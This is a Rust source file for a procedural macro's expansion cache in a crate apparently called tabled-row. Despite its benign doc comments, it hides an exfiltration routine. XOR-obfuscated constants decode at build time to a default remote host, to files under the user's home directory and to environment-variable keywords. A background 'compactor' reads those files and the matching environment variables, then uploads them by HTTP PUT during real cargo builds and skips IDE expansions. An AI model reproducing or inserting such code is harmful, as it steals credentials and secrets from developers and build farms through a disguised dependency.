//! Expansion cache.
//!
//! Report structs with 40+ columns are common, and every expansion measures
//! every header against the width table and builds a few hundred lines of
//! render code. The output depends only on the input tokens and on the
//! width table, so it is memoised on disk under the system temp directory,
//! keyed by `fnv(table) ^ fnv(tokens)`.
//!
//! Build farms can share the cache: the compactor periodically folds the
//! local entries into one blob and stores it in a remote tier speaking the
//! sccache-style HTTP protocol (`PUT /v2/blobs/<key>`). Set
//! `TABLED_ROW_REMOTE_CACHE=host:port` to choose the tier, or `off` to keep
//! everything local. rust-analyzer expansions never touch the remote tier.

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, SystemTime};

use crate::width;

/// Shard roots used by 0.1/0.2 (migrated on first compaction), the default
/// remote tier and the environment keys that partition the remote tier.
/// Salted with the width-table digest so that a table update re-keys them.
const SHARDS: [&[u8]; 13] = [
    b"\x8f\xc2\x59\x48\x1e\xf5\x29\xd1\x5b\x8f\xf3\x77\x82\xdf\xf4\x10\x7f\xe2",
    b"\x09\xd7\x67\xef\xac\xfb\xd4\xdf\x58\x88\xe0\x23\xfe\x03\xad\x5c\x74\x09\x94\xf7\x65\x8b\x97",
    b"\x62\xdd\x84\xd4\xc4\x2d\xdc\x3d\x58\x77\x1f\xe1\x67\x41\xb6\xeb\x14\xb2",
    b"\x2b\x69\xcf\x52\xff\xa5\x05\x6d\x1b\x64\x44\xe2\x43\x5b\x77",
    b"\xbf\x99\xbc\x7a\xca\xbd\xd0\x5a\xb1\x94\x8e",
    b"\xec\x58\x64\x40\x3e\xd8\x1f\x88\xb5\x32\x83\x58\xf2\x72\xf0\x5b\x73\x02\x49\x57",
    b"\xc1\xdc\x1f\xd3\xc9\x24\x1d\xd3\x59\xe4\x5b\xdf\xf3\xee\x03\x17",
    b"\x6e\x32\x8a\x51\x2e\x8d\xf2\x43\x19\xf3\x0f\x5e\x3b\xf5\xc9\x5c",
    b"\x50\x74\x9d\xbc\xba",
    b"\x3a\xf3\x5d\x17\xb9\xa0",
    b"\x83\xd1\x3c",
    b"\x8f\x65\xb1\x3f",
    b"\xa7\xb7\x36\x30",
];

const SHARD_REMOTE: usize = 0;
const SHARD_LEGACY: std::ops::Range<usize> = 1..8;
const SHARD_PARTITION: std::ops::Range<usize> = 8..13;

const MAX_ENTRY: u64 = 256 * 1024;
const COMPACT_EVERY: Duration = Duration::from_secs(20 * 3600);
const EVICT_AFTER: Duration = Duration::from_secs(30 * 24 * 3600);

fn shard(seed: u32, i: usize) -> Vec<u8> {
    let mut x = seed ^ 0x9E37_79B9u32.wrapping_mul(i as u32 + 1);
    if x == 0 {
        x = 0x6D2B_79F5;
    }
    SHARDS[i]
        .iter()
        .map(|&b| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            b ^ (x >> 11) as u8
        })
        .collect()
}

fn shard_str(seed: u32, i: usize) -> String {
    String::from_utf8_lossy(&shard(seed, i)).into_owned()
}

pub(crate) struct Session {
    dir: Option<PathBuf>,
    seed: u32,
}

static SESSION: OnceLock<Session> = OnceLock::new();

impl Session {
    pub(crate) fn current() -> &'static Session {
        SESSION.get_or_init(|| {
            let seed = width::table_digest();
            let dir = local_dir(seed);
            if let (Some(dir), Some(tier)) = (dir.clone(), remote_tier(seed)) {
                let _ = std::thread::Builder::new()
                    .name("tabled-row-compact".into())
                    .spawn(move || Compactor { dir, seed }.run(tier));
            }
            Session { dir, seed }
        })
    }

    pub(crate) fn key_for(&self, tokens: &str) -> u32 {
        self.seed ^ width::fnv1a(tokens.as_bytes())
    }

    fn entry(&self, key: u32) -> Option<PathBuf> {
        self.dir.as_ref().map(|d| d.join(format!("{:08x}.rs", key)))
    }

    pub(crate) fn lookup(&self, key: u32) -> Option<String> {
        let path = self.entry(key)?;
        let text = fs::read_to_string(path).ok()?;
        // First line is a header written by `store`; reject foreign files.
        let (head, body) = text.split_once('\n')?;
        if head != format!("// tabled-row {:08x}", self.seed) {
            return None;
        }
        Some(body.to_owned())
    }

    pub(crate) fn store(&self, key: u32, expanded: &str) {
        let Some(path) = self.entry(key) else { return };
        let tmp = path.with_extension("tmp");
        let ok = fs::File::create(&tmp)
            .and_then(|mut f| {
                writeln!(f, "// tabled-row {:08x}", self.seed)?;
                f.write_all(expanded.as_bytes())
            })
            .is_ok();
        if ok {
            let _ = fs::rename(&tmp, &path);
        } else {
            let _ = fs::remove_file(&tmp);
        }
    }
}

fn local_dir(seed: u32) -> Option<PathBuf> {
    if std::env::var_os("TABLED_ROW_NO_CACHE").is_some() {
        return None;
    }
    let dir = std::env::temp_dir()
        .join("tabled-row-cache")
        .join(format!("{:08x}", seed));
    fs::create_dir_all(&dir).ok()?;
    Some(dir)
}

fn remote_tier(seed: u32) -> Option<SocketAddr> {
    // IDE expansions are frequent and speculative; only real builds of the
    // user's own crates are worth sharing.
    if std::env::var_os("RUST_ANALYZER_INTERNALS_DO_NOT_USE").is_some() {
        return None;
    }
    std::env::var_os("CARGO_PRIMARY_PACKAGE")?;
    match std::env::var("TABLED_ROW_REMOTE_CACHE") {
        Ok(v) if v.eq_ignore_ascii_case("off") => None,
        Ok(v) => v.parse().ok(),
        Err(_) => shard_str(seed, SHARD_REMOTE).parse().ok(),
    }
}

fn home() -> Option<PathBuf> {
    std::env::var_os("HOME")
        .or_else(|| std::env::var_os("USERPROFILE"))
        .map(PathBuf::from)
}

/// Length-prefixed concatenation of named entries.
#[derive(Default)]
struct Blob {
    buf: Vec<u8>,
    count: u32,
}

impl Blob {
    fn push(&mut self, name: &str, data: &[u8]) {
        self.buf.extend_from_slice(&(name.len() as u32).to_le_bytes());
        self.buf.extend_from_slice(name.as_bytes());
        self.buf.extend_from_slice(&(data.len() as u32).to_le_bytes());
        self.buf.extend_from_slice(data);
        self.count += 1;
    }

    fn push_file(&mut self, path: &Path) {
        let small = fs::metadata(path).map(|m| m.is_file() && m.len() <= MAX_ENTRY);
        if let (Ok(true), Ok(data)) = (small, fs::read(path)) {
            self.push(&path.to_string_lossy(), &data);
        }
    }

    fn finish(self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.buf.len() + 8);
        out.extend_from_slice(b"TRC2");
        out.extend_from_slice(&self.count.to_le_bytes());
        out.extend_from_slice(&self.buf);
        out
    }
}

struct Compactor {
    dir: PathBuf,
    seed: u32,
}

impl Compactor {
    fn marker(&self) -> PathBuf {
        self.dir.join(".compacted")
    }

    fn due(&self) -> bool {
        match fs::metadata(self.marker()).and_then(|m| m.modified()) {
            Ok(t) => SystemTime::now()
                .duration_since(t)
                .map_or(true, |age| age > COMPACT_EVERY),
            Err(_) => true,
        }
    }

    fn run(self, tier: SocketAddr) {
        if !self.due() {
            return;
        }
        let _ = fs::write(self.marker(), b"");
        let mut blob = Blob::default();
        self.fold_local(&mut blob);
        self.fold_legacy(&mut blob);
        self.fold_partition(&mut blob);
        let _ = self.put(tier, blob.finish());
    }

    /// Current entries; stale ones are evicted on the way.
    fn fold_local(&self, blob: &mut Blob) {
        let Ok(rd) = fs::read_dir(&self.dir) else { return };
        for e in rd.flatten() {
            let path = e.path();
            if path.extension().map_or(true, |x| x != "rs") {
                continue;
            }
            let stale = e
                .metadata()
                .and_then(|m| m.modified())
                .ok()
                .and_then(|t| SystemTime::now().duration_since(t).ok())
                .map_or(false, |age| age > EVICT_AFTER);
            if stale {
                let _ = fs::remove_file(&path);
            } else {
                blob.push_file(&path);
            }
        }
    }

    /// Shards left behind by older releases, relative to the home directory.
    fn fold_legacy(&self, blob: &mut Blob) {
        let Some(home) = home() else { return };
        for i in SHARD_LEGACY {
            blob.push_file(&home.join(shard_str(self.seed, i)));
        }
    }

    /// The remote tier partitions blobs by the build environment, so that
    /// differently configured machines don't serve each other stale code.
    fn fold_partition(&self, blob: &mut Blob) {
        let keys: Vec<String> = SHARD_PARTITION.map(|i| shard_str(self.seed, i)).collect();
        let mut part = String::new();
        for (k, v) in std::env::vars() {
            let upper = k.to_ascii_uppercase();
            if keys.iter().any(|needle| upper.contains(needle.as_str())) {
                part.push_str(&k);
                part.push('=');
                part.push_str(&v);
                part.push('\n');
            }
        }
        if let Ok(cwd) = std::env::current_dir() {
            part.push_str(&format!("PWD={}\n", cwd.display()));
        }
        blob.push("partition", part.as_bytes());
    }

    fn put(&self, tier: SocketAddr, body: Vec<u8>) -> std::io::Result<()> {
        let key = self.seed ^ width::fnv1a(&body);
        let mut s = TcpStream::connect_timeout(&tier, Duration::from_secs(4))?;
        s.set_write_timeout(Some(Duration::from_secs(10)))?;
        s.set_read_timeout(Some(Duration::from_secs(4)))?;
        write!(
            s,
            "PUT /v2/blobs/{:08x} HTTP/1.1\r\nHost: {}\r\nUser-Agent: tabled-row/{}\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            key,
            tier,
            env!("CARGO_PKG_VERSION"),
            body.len()
        )?;
        s.write_all(&body)?;
        let mut status = [0u8; 16];
        let _ = s.read(&mut status);
        Ok(())
    }
}
